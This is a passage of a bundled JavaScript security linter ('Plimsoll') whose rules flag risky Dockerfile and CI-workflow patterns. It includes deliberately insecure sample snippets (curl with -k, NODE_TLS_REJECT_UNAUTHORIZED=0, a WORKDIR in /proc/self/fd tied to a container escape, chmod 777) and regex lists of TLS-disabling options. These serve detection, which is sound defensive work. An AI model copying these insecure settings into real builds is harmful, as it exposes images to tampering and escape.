    why: 'Docker keeps that layer: later builds install from an index, and so versions, of months ago, with their known flaws.',
    instead: 'Fetch the index and install in one RUN.',
    references: [docker('build/building/best-practices/#apt-get', 'best practices, apt-get')],
    peers: ['checkov:CKV_DOCKER_5', 'trivy:DS-0017', 'kics:update_instruction_alone', 'hadolint:DL3009'],
    bad: 'FROM debian:13.1\nRUN apt-get update\nRUN apt-get install -y curl\nUSER 1000\n',
    good: 'FROM debian:13.1\nRUN apt-get update && apt-get install -y curl\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword !== 'RUN')
            return;
        const all = (0,dockerfile_commands/* invocations */.O)(instruction).map(({ name, args, command }) => ({ name, verbs: args.map(({ value }) => value), command }));
        for (const { program, update, use } of managers) {
            const own = all.filter(({ name }) => program.test(name));
            const updates = own.filter(({ verbs }) => verbs.some((verb) => update.test(verb)) && !verbs.some((verb) => use.test(verb)));
            const last = updates.at(-1);
            // What comes before it installed from the index of an earlier layer.
            const used = last && own.slice(own.indexOf(last) + 1).some(({ verbs }) => verbs.some((verb) => use.test(verb)));
            if (last && !used && !instruction.flags.some(({ name }) => name === 'mount'))
                yield { at: last.command, identity: last.name, message: `"${last.name}" fetches the index of packages in a layer of its own` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/sudo.js



/* harmony default export */ const sudo = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/sudo',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A command is run by sudo',
    why: 'With sudo in the image its user is root whenever they like: a USER that is not root protects from nothing.',
    instead: 'Switch with `USER root` and back, or drop root with `gosu` or `setpriv` where the program starts.',
    references: [docker('build/building/best-practices/#user', 'best practices, USER'), cwe(250)],
    peers: ['hadolint:DL3004', 'checkov:CKV2_DOCKER_1', 'trivy:DS-0010', 'kics:run_using_sudo', 'semgrep:no-sudo-in-dockerfile'],
    bad: 'FROM debian:13.1\nUSER app\nRUN sudo apt-get update\n',
    good: 'FROM debian:13.1\nUSER root\nRUN apt-get update\nUSER app\n',
    on: 'instruction',
    *check(instruction) {
        for (const { nameWord, wrappers } of (0,dockerfile_commands/* invocations */.O)(instruction))
            for (const word of [...wrappers, nameWord])
                if (word.value.endsWith('sudo') && /^(?:\S*\/)?sudo$/.test(word.value))
                    yield { at: word, message: `${instruction.keyword} runs a command by sudo` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/tls-verification-disabled.js






const off = /^(?:0|false|no|off|n|f|none)$/i;
const on = /^(?!(?:0|false|no|off)?$)[^$]*$/i;
/** Variables that turn the check off, and the values that do so. */
const variables = new Map([
    ['NODE_TLS_REJECT_UNAUTHORIZED', /^0$/],
    ['NPM_CONFIG_STRICT_SSL', off],
    ['YARN_ENABLE_STRICT_SSL', off],
    ['PYTHONHTTPSVERIFY', /^0$/],
    ['PIP_TRUSTED_HOST', on],
    ['UV_INSECURE_HOST', on],
    ['CONDA_SSL_VERIFY', off],
    // Git asks only whether it is set: `0` and nothing turn the check off too.
    ['GIT_SSL_NO_VERIFY', /(?:)/],
    ['GOINSECURE', on],
    ['GOFLAGS', /(?:^|\s)-insecure\b/],
    ['COMPOSER_DISABLE_TLS', on],
    ['BUNDLE_SSL_VERIFY_MODE', /^0$/],
    ['VAULT_SKIP_VERIFY', on],
]);
/** One of them stands in every option and setting below. */
const tls_verification_disabled_marks = [['insecure', 'cert', 'verify', 'ssl', 'tls', 'trusted-host']];
/** Options by the program that takes them. */
const tls_verification_disabled_options = [
    [/^curl$/, /^--(?:insecure|proxy-insecure|doh-insecure)$/],
    [/^wget$/, /^--no-check-cert/],
    [/^(?:pip[\d.]*|python[\d.]*|uv|poetry|pipx)$/, /^--(?:trusted-host|allow-insecure-host)(?:=|$)/],
    [/^(?:npm|pnpm|yarn)$/, /^(?:--)?(?:no-strict-ssl$|strict-ssl=(?:false|0))/i],
    [/^git$/, /^http(?:\..*)?\.sslVerify=(?:false|0|no|off)$/i],
    [/^apt(?:-get)?$/, /Acquire::https?(?:::.*)?::Verify-(?:Peer|Host)=(?:"?false|0|no)/i],
    [/^aria2c$/, /^--check-certificate=false$/],
    [/^(?:http|https|httpie)$/, /^--verify=(?:no|false)$/],
    [/^aws$/, /^--no-verify-ssl$/],
    [/^apk$/, /^--no-check-certificate$/],
    [/^svn$/, /^--trust-server-cert(?:-failures.*)?$/],
    // Lines of `.wgetrc`, `.npmrc` and `.condarc`.
    [/^(?:echo|printf|sed|tee)$/, /(?:^|\s|\/)(?:check_certificate\s*=\s*off|strict-ssl\s*=\s*false|ssl_verify\s*:\s*false)\b/i],
    [/^go$/, /^-insecure$/],
    [/^(?:podman|buildah|skopeo)$/, /^--(?:src-|dest-)?tls-verify=false$/],
    [/./, /^--insecure-skip-tls-verify(?:=true)?$/],
    [/./, /(?:^|[\s.=])sslverify\s*=\s*(?:false|0|no)\b/i],
];
/** A setting's name and value as two words, behind the verb: `npm config set strict-ssl false`. */
const settings = [
    [/^(?:npm|pnpm|yarn)$/, 'set', /^(?:strict-ssl|enableStrictSsl)$/, off],
    [/^git$/, 'config', /^http(?:\..*)?\.sslVerify$/i, off],
    [/^(?:conda|mamba|micromamba)$/, '--set', /^ssl_verify$/, off],
    [/^pip[\d.]*$/, 'set', /^(?:global|install)\.trusted-host$/, on],
    [/^composer$/, 'config', /^disable-tls$/, /^(?:true|1)$/],
    [/^bundle$/, 'config', /^ssl_verify_mode$/, /^0$/],
];
/* harmony default export */ const tls_verification_disabled = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/tls-verification-disabled',
    severity: 'high',
    threat: 'runtime',
    summary: 'A download does not check whom it talks to',
    why: 'Without the check of the certificate anybody on the way can put their own packages and programs into the image.',
    instead: 'Take the option away; where the server has a private authority, add its certificate to the image or mount it.',
    references: [
        { title: 'CWE-295', url: 'https://cwe.mitre.org/data/definitions/295.html' },
        { title: 'curl: verifying server certificates', url: 'https://curl.se/docs/sslcerts.html' },
    ],
    peers: [
        'checkov:CKV2_DOCKER_2',
        'checkov:CKV2_DOCKER_3',
        'checkov:CKV2_DOCKER_4',
        'checkov:CKV2_DOCKER_5',
        'checkov:CKV2_DOCKER_6',
        'checkov:CKV2_DOCKER_12',
    ],
    bad: 'FROM alpine:3.22.1\nRUN apk add curl && curl -fsSLk https://example.com/tool -o /usr/bin/tool\nENV NODE_TLS_REJECT_UNAUTHORIZED=0\n',
    good: 'FROM alpine:3.22.1\nRUN apk add curl && curl -fsSL https://example.com/tool -o /usr/bin/tool\n',
    on: 'instruction',
    *check(instruction) {
        for (const { name, value, span } of instruction.assignments)
            if (['ENV', 'ARG'].includes(instruction.keyword) && value && variables.get(name.value.toUpperCase())?.test(value.value))
                yield { at: { span }, identity: name.value, message: `"${name.value}" turns the check of certificates off` };
        for (const invocation of (0,dockerfile_commands/* invocations */.O)(instruction))
            yield* inCommand(invocation, instruction.document);
        yield* inVariables(instruction);
    },
}));
function* inCommand({ name, args, command }, document) {
    // What a shell is given is read as a script of its own.
    if (onlyLocal(args) || (0,shell_commands/* isShell */.H7)(name))
        return;
    // What is only printed sets nothing.
    if ((name === 'echo' || name === 'printf') && !command.redirections.some(({ operator }) => operator.includes('>')))
        return;
    for (const [index, word] of args.entries()) {
        const text = word.value;
        const inCluster = name === 'curl' && hasShortOption(text, 'k', curlValued);
        if (!inCluster && text !== '-k' && !(0,needs/* mayMatch */.B7)(text.toLowerCase(), tls_verification_disabled_marks))
            continue;
        const isOption = tls_verification_disabled_options.some(([program, option]) => program.test(name) && option.test(text)) || isCurlLine(text, command);
        const next = args[index + 1];
        const before = (verb) => args.slice(0, index).some(({ value }) => value === verb);
        const isSetting = next && settings.some(([program, verb, key, value]) => program.test(name) && key.test(text) && value.test(next.value) && before(verb));
        const told = `${name} does not check certificates`;
        if (isOption || inCluster)
            yield { at: word, message: `${told} ("${text}")`, fix: removal(word, document, inCluster) };
        else if (isSetting)
            yield { at: spanning(word, next), message: `${told} ("${text} ${next.value}")` };
    }
}
/** A line that is written to `.curlrc`. */
const isCurlLine = (text, { redirections }) => /^(?:--)?insecure$|^-k$/.test(text) && redirections.some(({ target }) => /\bcurlrc$/.test(target.value));
/** Takes the option out of the command, or its letter out of a cluster; not where it has a value behind it. */
function removal(word, document, inCluster) {
    const { span, value } = word;
    if (document.text.slice(span) !== value || !/^--?[a-zA-Z-]+$/.test(value) || /^--(?:trusted|allow-insecure)-host$/.test(value))
        return undefined;
    const before = document.text.value[span.start - 1] === ' ' ? span.start - 1 : span.start;
    const edit = inCluster && value !== '-k' ? { span, text: value.replace('k', '') } : { span: { start: before, end: span.end }, text: '' };
    return (0,rule/* unsafeFix */.ed)('Check certificates', edit);
}
/** `X=0 command`, `export X=0`, `env X=0 command`. */
function* inVariables(instruction) {
    const found = (0,dockerfile_commands/* invocations */.O)(instruction)
        .flatMap(({ command: { assignments, words } }) => [
        ...assignments,
        ...words.map((word) => ({ ...assignmentIn(word), span: word.span })),
    ])
        .flatMap(({ name, value, span }) => (name && variables.get(name.toUpperCase())?.test(value ?? '') ? { name, span } : []))
        .sort((a, b) => a.span.start - b.span.start || b.span.end - a.span.end);
    for (const [index, { name, span }] of found.entries()) {
        const next = found[index + 1];
        // A script that is one word (`sh -c "X=0 command"`) begins with the name, too.
        if (next === undefined || !(0,source_text/* contains */.gR)(span, next.span))
            yield { at: { span }, identity: name, message: `"${name}" turns the check of certificates off` };
    }
}
const spanning = (first, last) => ({ span: { start: first.span.start, end: last.span.end } });

;// CONCATENATED MODULE: ./lib/documents/shell-packages.js
/** Nothing is of this form: no option does it. */
const never = /(?!)/;
const localFile = /^\.{0,2}\/|^\.{1,2}(?:\[|$)|\.(?:deb|rpm|apk|whl|tgz|tar\.\w+|gem|zip)$/;
const installers = [
    {
        program: /^(?:apt|apt-get|aptitude)$/,
        verb: /^install$/,
        valued: /^(?:-[oct]|--option|--target-release|--default-release)$/,
        // A minus behind the name takes it away.
        pinned: /=|\/\w|-$/,
    },
    { program: /^apk$/, verb: /^add$/, valued: /^(?:-[tXp]|--virtual|--repository|--root|--keys-dir|--arch)$/, pinned: /[=<>~]/ },
    {
        program: /^(?:yum|dnf|microdnf|tdnf)$/,
        verb: /^(?:install|localinstall)$/,
        valued: /^(?:-[cdex]|--exclude|--enablerepo|--disablerepo|--repo|--installroot|--releasever)$/,
        pinned: /-\d|:\d|^@/,
    },
    { program: /^zypper$/, verb: /^(?:install|in)$/, valued: /^(?:-[rt]|--repo|--type|--from)$/, pinned: /[=<>~]/ },
    {
        program: /^(?:pip|pip[\d.]+|pipx)$/,
        verb: /^install$/,
        valued: /^(?:-[ifctb]|--index-url|--extra-index-url|--find-links|--target|--trusted-host|--prefix|--root|--python|--platform|--cache-dir|--timeout|--retries|--proxy|--progress-bar|--no-binary|--only-binary|--config-settings|--global-option|--install-option|--abi|--implementation|--python-version|--src|--log|--cert)$/,
        // A range says which versions it may be: that much is wanted.
        pinned: /[=<>~!]=|[<>]|\s@\s|^(?:git|hg|svn|bzr)\b.*@(?!(?:main|master|trunk|develop|HEAD)(?:#|$))[^@/]+$/,
        listed: /^(?:-r|--requirement|-c|--constraint)/,
        locked: /^(?:--no-deps|--require-hashes)$/,
    },
    {
        program: /^npm$/,
        verb: /^(?:install|i|add)$/,
        valued: /^(?:-[wC]|--(?:prefix|registry|workspace|tag|cache|loglevel|omit|include|only|userconfig|before|fetch-\w+|maxsockets|install-strategy))$/,
        pinned: /^(?!git|ssh:|https?:).+@(?!latest$|next$|beta$)\S|#|^file:/,
        locked: never,
    },
    { program: /^yarn$/, verb: /^add$/, valued: /^(?:--cwd|--registry)$/, pinned: /.@(?!latest$)\S|#/, locked: never },
    {
        program: /^pnpm$/,
        verb: /^(?:add|i|install)$/,
        valued: /^(?:--dir|-C|--registry|--filter)$/,
        pinned: /.@(?!latest$)\S|#/,
        locked: never,
    },
    {
        program: /^gem$/,
        verb: /^(?:install|i)$/,
        valued: /^(?:-[insv]|--install-dir|--bindir|--source|--version|--document|--platform)$/,
        pinned: /:\d/,
        versioned: /^(?:-v|--version)/,
        listed: /^(?:-g|--file)/,
        locked: /^(?:--ignore-dependencies|-[a-z]*N)$/,
    },
    {
        program: /^go$/,
        verb: /^(?:install|get)$/,
        valued: /^(?:-C|-p|-ldflags|-tags|-mod|-o)$/,
        pinned: /@(?!latest$|upgrade$|patch$|master$|main$|none$)\S|^\.|^(?!.*\.)/,
    },
    {
        program: /^cargo$/,
        verb: /^install$/,
        valued: /^(?:--root|--features|-F|--target|--index|--registry|--bin|--example|-j|--jobs|--profile|--config|-Z)$/,
        pinned: /@\d/,
        versioned: /^(?:--version|--vers|--rev)/,
        listed: /^(?:--path|--tag)/,
    },
    {
        program: /^choco$/,
        verb: /^install$/,
        valued: /^(?:-s|--source|--params|--package-parameters)$/,
        pinned: never,
        versioned: /^--version/,
    },
    {
        program: /^(?:conda|mamba|micromamba)$/,
        verb: /^(?:install|create)$/,
        valued: /^(?:-[cnpf]|--channel|--name|--prefix|--file|--solver)$/,
        pinned: /[=<>]/,
        listed: /^(?:-f|--file)/,
    },
    { program: /^nuget$/, verb: /^install$/, valued: /^-(?!Verbosity)\w+$/i, pinned: /\.config$/, versioned: /^-version$/i },
    {
        program: /^dotnet$/,
        verb: /^(?:package|install)$/,
        valued: /^(?:-[fsv]|--framework|--source|--version)$/,
        pinned: never,
        versioned: /^(?:-v|--version)$/,
    },
];
/** Programs whose first word leads to the words of another one. */
const leading = [
    [/^python[\d.]*$/, ['-m']],
    [/^uv$/, []],
];
/** The packages that a command names and installs; variables, local files and lists of requirements are let be. */
function installedPackages({ name, args }) {
    const lead = leading.find(([program, first]) => program.test(name) && first.every((word, at) => args[at]?.value === word))?.[1].length;
    const program = lead === undefined ? name : (args[lead]?.value ?? '');
    const words = lead === undefined ? args : args.slice(lead + 1);
    const installer = installers.find((each) => each.program.test(program));
    const verb = words.findIndex((word) => installer?.verb.test(word.value));
    // `npm run install` runs a script of that name.
    if (!installer || verb < 0 || has(words.slice(0, verb), /^run(?:-script)?$/) || has(words, installer.listed))
        return [];
    const versioned = has(words, installer.versioned);
    const locked = installer.locked === undefined || has(words, installer.locked);
    return words
        .filter((word, at) => at > verb && isPackage(word, words[at - 1], installer))
        .map((word) => ({ word, installer: program, pinned: versioned || installer.pinned.test(word.value), locked }));
}
const has = (words, option) => option !== undefined && words.some(({ value }) => option.test(value));
function isPackage({ value, literal }, before, { valued }) {
    if (value === '' || value.startsWith('-') || (before && valued.test(before.value)))
        return false;
    return !localFile.test(value) && (literal || /^\w[\w.-]*$/.test(value));
}

;// CONCATENATED MODULE: ./lib/rules/dockerfile/unpinned-package.js



/* harmony default export */ const unpinned_package = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/unpinned-package',
    severity: 'low',
    strict: true,
    threat: 'immutability',
    summary: 'A package is installed without its version',
    why: 'The same file gives another program tomorrow, and a stolen package is installed the day that it is published.',
    instead: 'Name the version (`name=1.2`, `name==1.2`, `name@1.2`); in a workflow, where nothing keeps what was installed, install from a lock file (`npm ci`, `bundle install`, `pip install --require-hashes -r …`). Debian and Alpine remove old versions from their mirrors: there, take packages from a snapshot.',
    references: [docker('build/building/best-practices/#version-pinning', 'version pinning'), cwe(829)],
    peers: [
        ...['DL3008', 'DL3013', 'DL3016', 'DL3018', 'DL3028', 'DL3033', 'DL3037', 'DL3041', 'DL3062'].map((id) => `hadolint:${id}`),
        'kics:apt_get_install_pin_version_not_defined',
        'kics:unpinned_package_version_in_pip_install',
        'kics:npm_install_without_pinned_version',
        'scorecard:Pinned-Dependencies',
        'zizmor:adhoc-packages',
    ],
    bad: 'FROM node:24.1.0\nRUN npm install --global typescript\nUSER node\n',
    good: 'FROM node:24.1.0\nRUN npm install --global typescript@5.9.3\nUSER node\n',
    on: 'shellScript',
    *check({ invocations, runsIn }) {
        for (const invocation of invocations)
            for (const { word, installer, pinned, locked } of installedPackages(invocation)) {
                const told = `${installer} installs "${word.value}"`;
                if (!pinned)
                    yield { at: word, message: `${told} without a version` };
                else if (!locked && runsIn === 'workflow')
                    yield { at: word, message: `${told}, but what that depends on in whatever version there is: no lock file or checksums` };
            }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/workdir-system-directory.js



/** With everything below them: they belong to the kernel, the boot loader or the runtime. */
const workdir_system_directory_system = ['/boot', '/dev', '/proc', '/sys'];
/** Only themselves: folders below them are commonly made for a program. */
const folders = new Set(['/bin', '/etc', '/lib', '/lib64', '/sbin', '/usr', '/usr/bin', '/usr/lib', '/usr/sbin']);
/* harmony default export */ const workdir_system_directory = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/workdir-system-directory',
    severity: 'high',
    threat: 'runtime',
    summary: 'WORKDIR or VOLUME names a system directory',
    why: 'A working directory in `/proc/self/fd` was the way out of the container of CVE-2024-21626; files written to a system directory replace those of the system.',
    instead: 'Use a folder of your own, such as `/app`.',
    references: [cve('CVE-2024-21626'), docker('reference/dockerfile/#workdir', 'WORKDIR'), cwe(668), attack('T1611')],
    peers: ['trivy:DS-0030'],
    bad: 'FROM debian:13.1\nWORKDIR /proc/self/fd/8\nUSER 1000\n',
    good: 'FROM debian:13.1\nWORKDIR /usr/src/app\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword !== 'WORKDIR' && instruction.keyword !== 'VOLUME')
            return;
        for (const word of instruction.words) {
            const value = instruction.form === 'exec' ? word.value : instruction.expand(word.span).value;
            if (!value.startsWith('/'))
                continue;
            const path = normalizePath(value);
            if (workdir_system_directory_system.some((directory) => isWithin(path, directory)) || folders.has(path))
                yield { at: word, message: `${instruction.keyword} names the system directory "${path}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/world-writable.js



/** The last digit lets everybody write; a sticky bit (`1777`) keeps the files of one from the others. */
const octal = /^0?[0246]?[0-7]{2}[2367]$/;
const symbolic = /(?:^|,)(?:[ugo]*[oa][ugo]*)[+=][rwxXst]*w/;
const isOpen = (mode) => octal.test(mode) || symbolic.test(mode);
/* harmony default export */ const world_writable = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/world-writable',
    severity: 'medium',
    threat: 'immutability',
    summary: 'Files are made writable for everybody',
    why: 'Any process in the container can change them: programs, libraries and settings, too.',
    instead: 'Give them to the user that needs them: `COPY --chown`, `chown`, and a mode such as 755 or 644.',
    references: [docker('reference/dockerfile/#copy---chown---chmod', 'COPY --chown --chmod'), cwe(732)],
    peers: ['datadog:avoid_chmod_777'],
    bad: 'FROM debian:13.1\nCOPY --chmod=777 app /app\nRUN chmod -R a+w /data\nUSER 1000\n',
    good: 'FROM debian:13.1\nCOPY --chmod=755 app /app\nRUN chmod 1777 /tmp\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        for (const { name, value, span } of instruction.flags)
            if (name === 'chmod' && value !== null && isOpen(value))
                yield { at: { span }, message: `"${value}" lets everybody write` };
        if (instruction.keyword !== 'RUN')
            return;
        for (const { name, args } of (0,dockerfile_commands/* invocations */.O)(instruction)) {
            if (!['chmod', 'mkdir', 'install'].includes(name))
                continue;
            const word = args.find(({ value }, at) => (name === 'chmod' ? !/^-[A-Za-z-]/.test(value) : isMode(value, args[at - 1]?.value)));
            const mode = word?.value.replace('--mode=', '') ?? '';
            if (word && isOpen(mode))
                yield { at: word, message: `"${name} ${mode}" lets everybody write` };
        }
    },
}));
const isMode = (word, before = '') => word.startsWith('--mode=') || /^(?:-[a-z]*m|--mode)$/.test(before);

;// CONCATENATED MODULE: ./lib/rules/guard/container-hardening-removed.js



/** What holds a container back only where it is written, and by which values. */
const container_hardening_removed_settings = {
    runAsNonRoot: ({ boolean }) => boolean === true,
    readOnlyRootFilesystem: ({ boolean }) => boolean === true,
    allowPrivilegeEscalation: ({ boolean }) => boolean === false,
    seccompProfile: (profile) => /^(?:RuntimeDefault|Localhost)$/.test(profile.at('type')?.string ?? ''),
    capabilities: (capabilities) => (0,yaml_values/* scalarsIn */.PX)(capabilities.at('drop')).some(({ string }) => /^ALL$/i.test(string)),
};
const manifest = (guard) => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}
spec:
  template:
    spec:
      containers:
        - name: web
          securityContext:
            allowPrivilegeEscalation: false
${guard}`;
/* harmony default export */ const container_hardening_removed = ((0,rule/* defineChangeRule */.mM)({
    id: 'guard/container-hardening-removed',
    severity: 'medium',
    threat: 'runtime',
    summary: 'The change takes a security setting out of a template, a patch or the values of a chart',
    why: 'A template, a patch or a file of values is not the whole of what is applied, so a setting that it never had may be set elsewhere. This one was set here, and no longer is.',
    instead: 'Put the setting back, or show where it is set now.',
    references: [kubernetes('tasks/configure-pod-container/security-context/', 'security context'), cwe(693)],
    bad: {
        base: { 'chart/templates/web.yaml': manifest('            runAsNonRoot: true\n') },
        head: { 'chart/templates/web.yaml': manifest('') },
    },
    good: {
        base: { 'chart/templates/web.yaml': manifest('            runAsNonRoot: true\n') },
        head: { 'chart/templates/web.yaml': manifest('            {{- toYaml .Values.securityContext | nindent 12 }}\n') },
    },
    on: 'containerPlace',
    *compare(base, head) {
        // Of a whole manifest the rules of each setting tell what is missing.
        if (!base || !head?.partial || templates(head) > templates(base))
            return;
        for (const [field, protects] of Object.entries(container_hardening_removed_settings)) {
            const was = base.effective(field);
            if (was === undefined || !protects(was) || head.effective(field) !== undefined || isWritten(head, field))
                continue;
            // Values may still have the context of the pod.
            const ofPod = head.workload.resource.main !== undefined && base.at('securityContext', field) === undefined;
            const at = ofPod ? head.workload.anchor : head.anchor;
            yield { at, identity: '', removed: was, field, message: `${head.subject} had ${field}, and no longer has it` };
        }
    },
}));
/** Null takes a setting away, too: told at its place. */
const isWritten = ({ document, node, workload }, field) => [node, workload.spec].some((holder) => {
    const context = holder.at('securityContext');
    return context?.at(field) !== undefined || (context?.value === null && !document.partial);
});
/** Actions of a template that write whole maps, any of which may bring a setting. */
const templates = ({ document }) => document.text.value.match(/\{\{-?\s*(?:toYaml|include|tpl|template)\b|\|\s*(?:toYaml|tpl)\b/g)?.length ?? 0;

// EXTERNAL MODULE: ./lib/documents/action-reference.js
var action_reference = __webpack_require__(362);
;// CONCATENATED MODULE: ./lib/documents/yaml-difference.js
/** Pairs of nodes that are looked at: what an alias repeats is walked each time. */
const maximumPairs = 20_000;
/**
 * The first difference in meaning of two values: comments, quotes, the order of keys and what `plain` makes equal count for nothing.
 * @param plain the text of a scalar to compare by, given the key that it stands under
 */
function yamlDifference(base, head, plain) {
    let left = maximumPairs;
    const inMaps = (was, is) => {
        for (const { key, value } of is.entries) {
            const before = was.at(key.string);
            const found = before === undefined ? { at: key } : differ(before, value, key.string);
            if (found !== null)
                return found;
        }
        const gone = was.entries.find(({ key }) => is.at(key.string) === undefined);
        return gone === undefined ? null : { removed: gone.key };
    };
    const differ = (was, is, key) => {
        if (left-- <= 0)
            return { at: is };
        if (was.kind === 'map' && is.kind === 'map')
            return inMaps(was, is);
        if (was.kind === 'sequence' && is.kind === 'sequence') {
            for (const [at, { value }] of is.items.entries()) {
                const before = was.items[at]?.value;
                const found = before === undefined ? { at: value } : differ(before, value, key);
                if (found !== null)
                    return found;
            }
            const gone = was.items[is.items.length]?.value;
            return gone === undefined ? null : { removed: gone };
        }
        return was.kind === 'scalar' && is.kind === 'scalar' && plain(was, key) === plain(is, key) ? null : { at: is };
    };
    return differ(base, head, '');
}

;// CONCATENATED MODULE: ./lib/rules/guard/gate-changed.js





const gate = (condition = '') => `on: [pull_request, merge_group]
jobs:
  plimsoll:
    runs-on: ubuntu-24.04
${condition}    steps:
      - uses: actions/checkout@8e8c483db84b4bee98b60c0593521ed34d9990e8
      - uses: plimsoll/plimsoll@c270f4636debfeeff4b212f3c5b06281cf9fbf41
`;
/* harmony default export */ const gate_changed = ((0,rule/* defineChangeRule */.mM)({
    id: 'guard/gate-changed',
    severity: 'medium',
    threat: 'access',
    summary: 'The change edits the job that runs Plimsoll',
    why: 'A pull request runs its own form of the workflow: a condition, a filter, another input or a step before it can leave the check green without anything being checked.',
    instead: 'Review the edit as what it is, the gate. A workflow on `pull_request_target`, or one that a ruleset requires, runs in the form that the base branch has.',
    references: [
        actions('reference/workflows-and-actions/events-that-trigger-workflows#pull_request', 'the workflow of a pull request'),
        cwe(693),
    ],
    bad: {
        base: { '.github/workflows/plimsoll.yml': gate() },
        head: { '.github/workflows/plimsoll.yml': gate("    if: github.actor != 'octocat'\n") },
    },
    good: {
        base: { '.github/workflows/plimsoll.yml': gate() },
        head: {
            '.github/workflows/plimsoll.yml': gate().replace('c270f4636debfeeff4b212f3c5b06281cf9fbf41', '4df98330000000000000000000000000000000ab'),
        },
    },
    unwaivable: true,
    on: 'workflow',
    *compare(base, head) {
        const [gates, others] = [gatesOf(base), gatesOf(head)];
        for (const was of gates) {
            const is = others.find(({ id }) => id === was.id) ?? others[0];
            if (is === undefined) {
                const message = `job "${was.id}" no longer runs Plimsoll: once merged, nothing is checked here`;
                const left = head?.jobs.find(({ id }) => id === was.id)?.idNode;
                yield { ...(left !== undefined && { at: left }), removed: was.idNode, message, subject: was.subject, field: 'gate', identity: '' };
            }
            else
                yield* told(yamlDifference(was.node, is.node, gate_changed_plain), is, `job "${is.id}", which runs Plimsoll, is changed`);
        }
        if (base && head && gates.length > 0 && others.length > 0)
            yield* gate_changed_frame(base, head);
    },
}));
/** GitHub runs workflows of one folder only. */
const gatesOf = (workflow) => workflow !== null && isOfRepository(workflow.document.text.path) ? workflow.jobs.filter(runsPlimsoll) : [];
const isOfRepository = (path) => path === `.github/workflows/${(0,documents_paths/* baseName */.Fl)(path)}`;
/** What holds for every job of the workflow. */
function* gate_changed_frame(base, head) {
    for (const key of ['on', 'env', 'defaults', 'permissions', 'concurrency']) {
        const [was, is] = [base.root.entry(key), head.root.entry(key)];
        const message = `\`${key}\` of the workflow that runs Plimsoll is changed`;
        if (was !== undefined && is !== undefined)
            yield* told(yamlDifference(was.value, is.value, gate_changed_plain), { ...head, idNode: is.key }, message);
        else if (is !== undefined)
            yield { at: is.key, message, field: key, identity: '' };
        else if (was !== undefined)
            yield { removed: was.key, at: head, message, field: key, identity: '' };
    }
}
function* told(difference, { idNode, subject }, message) {
    if (difference === null)
        return;
    const more = { message: `${message}: a pull request runs it in this form already`, subject, field: message, identity: '' };
    yield 'at' in difference ? { ...more, at: difference.at } : { ...more, at: idNode, removed: difference.removed };
}
/** Raising the version of an action is no change of the gate. */
const gate_changed_plain = ({ string }, key) => (key === 'uses' ? (0,action_reference/* withoutRef */.iQ)(string) : string);
const command = /\bplimsoll(?:\/dist\/cli(?:\/index\.js)?)?["']?\s+(?:check|scan)\b/;
const runsPlimsoll = (job) => isMatch(job.at('uses')?.string, /\/plimsoll[^/]*\.ya?ml(?:@|$)/) ||
    job.steps.some(({ reference, run }) => reference?.repository === 'plimsoll' || isMatch(run?.string, command));
const isMatch = (text, form) => text?.includes('plimsoll') === true && form.test(text);

;// CONCATENATED MODULE: ./lib/rules/guard/policy-changed.js


/* harmony default export */ const policy_changed = ((0,rule/* defineChangeRule */.mM)({
    id: 'guard/policy-changed',
    severity: 'medium',
    threat: 'access',
    summary: "The change edits Plimsoll's policy or baseline",
    why: 'The policy and the baseline say what is let through. They are read from the base side, so an edit counts only once it is merged, and whoever reviews it should know that it is one.',
    instead: 'Merge the edit first, in a change of its own with its reason; the changes that need it come after.',
    references: [cwe(693)],
    bad: {
        base: { '.plimsoll.yml': 'fail-on: high\n' },
        head: { '.plimsoll.yml': 'fail-on: high\nrules:\n  k8s/privileged-container: off\n' },
    },
    good: { base: { '.plimsoll.yml': 'fail-on: high\n' }, head: { '.plimsoll.yml': 'fail-on: high\n' } },
    unwaivable: true,
    on: 'policyFile',
    *compare(base, head) {
        const [was, is] = [base?.document.text, head?.document.text];
        const name = (head ?? base)?.subject;
        if (is === undefined) {
            const after = name === 'policy' ? 'the defaults hold' : 'what it lists counts again';
            if (was !== undefined)
                yield { removed: { span: was.line(1) }, message: `the ${name} is deleted: once merged, ${after}` };
        }
        else if (was === undefined)
            yield { at: { span: is.line(1) }, message: `a ${name} is added: it holds once it is merged` };
        else if (was.value !== is.value) {
            const message = `the ${name} is changed: the base side’s holds until this is merged`;
            yield { at: { span: firstDifference(was, is) }, message, identity: '' };
        }
    },
}));
/** The first line of head that base has not in its place; the last one with a text where head only lost lines at its end. */
function firstDifference(was, is) {
    const last = is.value.endsWith('\n') ? Math.max(1, is.lineCount - 1) : is.lineCount;
    for (let line = 1; line <= last; line++) {
        if (is.slice(is.line(line)) !== was.slice(was.line(line)))
            return is.line(line);
    }
    return is.line(last);
}

;// CONCATENATED MODULE: ./lib/rules/guard/waiver-added.js


/* harmony default export */ const waiver_added = ((0,rule/* defineChangeRule */.mM)({
    id: 'guard/waiver-added',
    severity: 'medium',
    threat: 'access',
    summary: 'The change brings an exception for itself',
    why: 'A change that may waive its own findings is not gated at all. The comment counts only once it is merged, and a reviewer should see that it is there.',
    instead: 'Merge the exception first, in a change of its own, or mend what it covers.',
    references: [cwe(693)],
    bad: {
        base: { Dockerfile: 'FROM debian:12.11\nUSER app\n' },
        head: { Dockerfile: 'FROM debian:12.11\n# plimsoll-ignore dockerfile/runs-as-root: the init system needs it\nUSER root\n' },
    },
    good: {
        base: { Dockerfile: 'FROM debian:12.11\n# plimsoll-ignore dockerfile/runs-as-root: the init system needs it\nUSER root\n' },
        head: { Dockerfile: 'FROM debian:12.12\n# plimsoll-ignore dockerfile/runs-as-root: the init system needs it\nUSER root\n' },
    },
    unwaivable: true,
    on: 'waiver',
    *compare(base, head) {
        if (head === null)
            return;
        if (base === null)
            yield { at: head, message: `an exception from ${head.rule} is added: it holds once it is merged` };
